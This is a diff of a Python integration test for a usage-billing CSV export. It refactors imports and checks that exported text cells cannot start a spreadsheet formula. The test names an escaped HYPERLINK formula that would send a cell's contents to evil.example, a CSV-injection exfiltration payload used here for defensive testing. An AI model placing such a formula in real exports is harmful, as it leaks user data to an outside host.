@@ -13,12 +13,13 @@ from typing import Any
 import clickhouse_connect
 import pytest
 
-from api.dashboards import CostGroup, CostWindow, Dashboards
-from api.usage_queries import Granularity, GroupBy, UsageQueries, UsageWindow
+from api.usage_formats import csv_chunks
 from billing.adapters.catalog_file import load_catalog
 from billing.scope import EVERYTHING
 from storage.connection import ClientPool
+from storage.dashboards import CostGroup, CostWindow, Dashboards
 from storage.schema import migrate
+from storage.usage_queries import Granularity, GroupBy, UsageQueries, UsageWindow
 from storage.usage_store import UsageStore
 from tests.factories import vm_sample
 from tests.integration.test_identities import DB, frame
@@ -68,7 +69,7 @@ def test_an_hour_of_samples_is_priced_exactly(queries):
 def test_text_cells_of_the_hourly_csv_never_start_a_formula(queries):
     usage, _ = queries
     window = UsageWindow("cust-00001", HOUR - timedelta(hours=1), HOUR + timedelta(hours=1))
-    text = b"".join(usage.hourly_csv(EVERYTHING, window)).decode()
+    text = b"".join(csv_chunks(usage.hourly(EVERYTHING, window))).decode()
     cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
     assert '\'=HYPERLINK("https://evil.example/?x="&A1,"open")' in cells
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
